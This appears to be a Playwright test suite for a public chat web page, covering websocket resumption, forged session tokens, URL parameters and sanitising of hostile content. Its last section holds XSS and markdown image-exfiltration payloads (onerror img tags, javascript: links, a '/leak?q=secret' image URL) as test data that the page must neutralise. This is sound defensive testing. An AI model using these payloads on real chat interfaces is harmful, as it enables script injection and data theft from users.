"""The public chat page when the connection, the address or the content is not as it should be."""

import base64
import gzip
import re
from collections.abc import Callable
from json import dumps
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Dialog, Page, WebSocketRoute, expect

from apps.logs.models import Conversation, Message
from apps.prompts.models import EndUser
from apps.prompts.services.apps import reset_site_code

from .axe import violations
from .chat_page import (
    DESKTOP,
    FORM,
    answer,
    ask,
    chat_app,
    ended,
    enter,
    rows,
    talks,
    upstream_app,
)
from .conftest import Chromium, aside
from .test_console import PAYLOAD

pytestmark = pytest.mark.browser


# --- the connection -----------------------------------------------------------------------------------------


def words_of(page: Page, number: int = 0) -> list[str]:
    return answer(page, number).locator(".md").inner_text().split()


def test_a_cut_websocket_is_resumed_without_losing_or_doubling_text(chromium: Chromium, upstream):
    app = upstream_app(upstream, "gen-40-60")
    with chromium.page() as page:
        cuts: list[int] = []

        def forward(socket: WebSocketRoute) -> None:
            server = socket.connect_to_server()

            def cut_once(message: str | bytes) -> None:
                socket.send(message)
                if not cuts and "tok9" in str(message):
                    cuts.append(1)
                    socket.close(code=1012)
                    server.close()

            server.on_message(cut_once)

        page.route_web_socket(re.compile("/ws/"), forward)
        enter(page, app)
        ask(page, "Count")
        expect(page.get_by_role("alert").filter(has_text="Reconnecting")).to_be_visible()
        ended(page)
        assert cuts
        assert len(words_of(page)) == len(set(words_of(page))) == 40


def test_a_reload_in_the_middle_of_an_answer_goes_on_with_it(chromium: Chromium, upstream):
    app = upstream_app(upstream, "gen-60-60")
    with chromium.page() as page:
        enter(page, app)
        ask(page, "Count")
        expect(answer(page).locator(".md")).to_contain_text("tok5")
        page.reload()
        expect(page.locator(".msg.user")).to_have_text(["Count"])
        ended(page)
        assert len(words_of(page)) == len(set(words_of(page))) == 60
        page.reload()
        expect(answer(page)).to_have_count(1)
        assert len(words_of(page)) == 60


def test_an_answer_goes_on_while_another_conversation_is_read(chromium: Chromium, upstream):
    app = upstream_app(upstream, "gen-60-60")
    with chromium.page(**DESKTOP) as page:
        enter(page, app)
        ask(page, "Count")
        expect(answer(page).locator(".md")).to_contain_text("tok5")
        page.get_by_role("button", name="New chat").first.click()
        expect(answer(page)).to_have_count(0)
        ask(page, "Count again")
        expect(answer(page).locator(".md")).to_contain_text("tok3")
        talks(page).filter(has_text=re.compile("^Count$")).click()
        expect(page.locator(".msg.user")).to_have_text(["Count"])
        ended(page)
        assert len(words_of(page)) == 60
    assert {message.status for message in rows(Message)} <= {"normal", "running"}


def blocked(page: Page) -> None:
    """A network that lets no websocket through."""
    page.route_web_socket(re.compile("/ws/"), lambda socket: socket.close(code=1006 + 5))


def test_without_websockets_answers_come_as_event_streams(chromium: Chromium, upstream):
    app = upstream_app(upstream, "gen-60-60")
    with chromium.page() as page:
        blocked(page)
        enter(page, app)
        ask(page, "Count")
        expect(answer(page).locator(".md")).to_contain_text("tok5")
        page.reload()
        ended(page)
        assert len(words_of(page)) == len(set(words_of(page))) == 60
        ask(page, "Count on")
        expect(answer(page, 1).locator(".md")).to_contain_text("tok3")
        page.get_by_role("button", name="Stop", exact=True).click()
        ended(page, "The answer was stopped.")
        expect(page.locator(".notice.warn")).to_be_hidden()
    assert len({message.conversation_id for message in rows(Message)}) == 1


def test_a_websocket_that_swallows_everything_is_given_up(chromium: Chromium):
    app = chat_app()
    with chromium.page() as page:
        page.route_web_socket(re.compile("/ws/"), lambda socket: None)
        enter(page, app)
        ask(page, "Hello?")
        ended(page)


def test_a_passport_that_is_worth_nothing_is_renewed(chromium: Chromium):
    app = chat_app()
    with chromium.page() as page:
        key = f"passport:{app.site_code}:"
        page.add_init_script(f"localStorage.getItem('{key}') ?? localStorage.setItem('{key}', 'forged')")
        enter(page, app)
        ask(page, "Hello?")
        ended(page)
        assert page.evaluate(f"localStorage.getItem('{key}')") != "forged"
        chromium.complaints.clear()  # the browser itself reports the 401


def test_web_04_a_page_that_moves_while_it_is_open_says_so(chromium: Chromium):
    app = chat_app()
    with chromium.page() as page:
        sockets: list[WebSocketRoute] = []

        def forward(socket: WebSocketRoute) -> None:
            socket.connect_to_server()
            sockets.append(socket)

        page.route_web_socket(re.compile("/ws/"), forward)
        enter(page, app)
        expect(page.get_by_role("button", name="Send")).to_be_enabled()
        aside(lambda: reset_site_code(app=app))
        sockets[0].close(code=1012)
        expect(page.get_by_role("alert").filter(has_text="does not exist any more")).to_be_visible()
        expect(page.get_by_role("button", name="Send")).to_be_disabled()
        page.reload()
        expect(page.get_by_role("heading")).to_have_text("There is nothing at this address")
        assert violations(page) == []
        chromium.complaints.clear()  # the browser itself reports the 404


# --- what the address says ----------------------------------------------------------------------------------


def packed(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode())).decode()


@pytest.mark.parametrize("pack", [str, packed], ids=["plain", "packed"])
@pytest.mark.parametrize("path", ["chat", "chatbot"])
def test_inputs_and_the_user_come_with_the_address(chromium: Chromium, path: str, pack: Callable[[str], str]):
    app = chat_app({"user_input_form": FORM, "opening_statement": "Hello {{name}}."})
    query = urlencode({name: pack(value) for name, value in VALUES.items()})
    with chromium.page() as page:
        enter(page, app, f"?{query}", path)
        expect(page.locator(".chat-start .md")).to_have_text("Hello Ådä + <b>.")
        ask(page, "Who am I?")
        ended(page)
    [message] = rows(Message)
    assert message.inputs == {"name": "Ådä + <b>", "topic": "Invoices", "age": ""}
    [visitor] = rows(EndUser)
    assert (visitor.session_id, visitor.is_anonymous) == ("ada@acme", False)


VALUES = {"name": "Ådä + <b>", "topic": "Invoices", "sys.user_id": "ada@acme", "user.name": "Ada", "unknown": "x"}


def test_bad_inputs_of_an_address_leave_the_form_to_the_person(chromium: Chromium):
    app = chat_app({"user_input_form": FORM})
    query = urlencode({"name": packed("Ada")[:-12], "topic": "Nothing of the kind", "age": "old"})
    with chromium.page() as page:
        enter(page, app, f"?{query}")
        expect(page.get_by_role("button", name="Start chat")).to_be_visible()
        expect(page.get_by_label("Your name")).to_have_value("")
        expect(page.get_by_label("Topic")).to_have_value("")
        expect(page.get_by_role("spinbutton")).to_have_value("")
        chromium.complaints.clear()  # the browser itself remarks on the number


def test_an_address_may_name_the_conversation_of_its_user(chromium: Chromium):
    app = chat_app()
    with chromium.page() as page:
        enter(page, app, "?sys.user_id=ada")
        ask(page, "Remember me?")
        ended(page)
    [conversation] = rows(Conversation)
    with chromium.page() as page:
        enter(page, app, f"?sys.user_id=ada&sys.conversation_id={conversation.pk}")
        expect(page.locator(".msg.user")).to_have_text(["Remember me?"])
        enter(page, app, f"?sys.user_id=eve&sys.conversation_id={conversation.pk}")
        expect(page.get_by_role("alert").filter(has_text="Conversation Not Exists.")).to_be_visible()
        expect(page.locator(".msg.user")).to_have_count(0)
        chromium.complaints.clear()  # the browser itself reports the 404


# --- hostile content ----------------------------------------------------------------------------------------

SPLIT = [
    PAYLOAD,
    "[x](javascript:alert(1)) [y](vbscript:alert(1)) [z](JaVaScRiPt&colon;alert(1))",
    "<a href='javascript:alert(1)'>a</a><base href=//127.0.0.1:9/>"
    "<meta http-equiv=refresh content='0;url=//127.0.0.1:9'>",
    "<form action=//127.0.0.1:9><button>b</button></form><object data=//127.0.0.1:9></object><embed src=//127.0.0.1:9>",
    "![a](http://127.0.0.1:9/leak?q=secret) ![b][ref]\n\n[ref]: //127.0.0.1:9/leak2.png",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
]


def test_h_01_h_11_hostile_markdown_split_anywhere_leaves_no_trace(chromium: Chromium):
    app = chat_app()
    with chromium.page() as page:
        dialogs: list[str] = []
        elsewhere: list[str] = []
        said: list[str] = []

        def dismiss(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        def speak_evil(socket: WebSocketRoute) -> None:
            """Answers each question with the next text, three characters at a time."""

            def hear(message: str | bytes) -> None:
                if '"auth"' in str(message):
                    socket.send('{"event": "ready"}')
                if '"chat"' not in str(message):
                    return
                text = SPLIT[len(said)]
                said.append(text)
                shared = {"message_id": "m", "conversation_id": None, "task_id": "t"}
                for start in range(0, len(text), 3):
                    socket.send(dumps({"event": "message", "answer": text[start : start + 3], **shared}))
                socket.send(dumps({"event": "message_end", "metadata": {"retriever_resources": HOSTILE}, **shared}))

            socket.on_message(hear)

        page.on("dialog", dismiss)
        page.on(
            "request",
            lambda request: None if request.url.startswith(chromium.base_url) else elsewhere.append(request.url),
        )
        page.route_web_socket(re.compile("/ws/"), speak_evil)
        enter(page, app)
        for number in range(len(SPLIT)):
            ask(page, SPLIT[number])
            expect(answer(page, number).locator(".msg-meta")).to_be_visible()
        for name in ("script", "iframe", "style", "math", "object", "embed", "form", "base", "meta", "svg:not(.icon)"):
            assert page.locator(f".chat-log {name}").count() == 0, name
        assert page.locator(".chat-log .md img").count() == 0
        assert page.locator(".chat-log .cites img").count() == 0
        targets = page.locator(".md a").evaluate_all("links => links.map(link => link.protocol)")
        assert set(targets) <= {"http:", "https:", "mailto:", ":"}  # the last: a link without an address
        assert page.evaluate("document.title") == app.name
        assert dialogs == []
        assert [url for url in elsewhere if not url.startswith(("data:", "blob:"))] == []


HOSTILE = [
    {"position": 1, "document_name": '"><img src=x onerror=alert(1)>', "content": "<img src=x onerror=alert(2)>"}
]


def test_h_07_names_from_strangers_are_text(chromium: Chromium):
    evil = '"><img src=x onerror=alert(1)>{{name}}'
    form = [{"select": {"variable": "a", "label": evil, "required": False, "options": [evil]}}]
    config = {"user_input_form": form, "opening_statement": evil, "suggested_questions": [evil]}
    app = chat_app(config, title=evil, description=evil, copyright=evil, custom_disclaimer=evil, icon=evil)
    with chromium.page() as page:
        enter(page, app)
        page.get_by_label(evil).select_option(evil)
        page.get_by_role("button", name="Start chat").click()
        page.get_by_role("button", name=evil).click()
        ended(page)
        assert page.locator("img").count() == 0
        expect(page).to_have_title(evil)
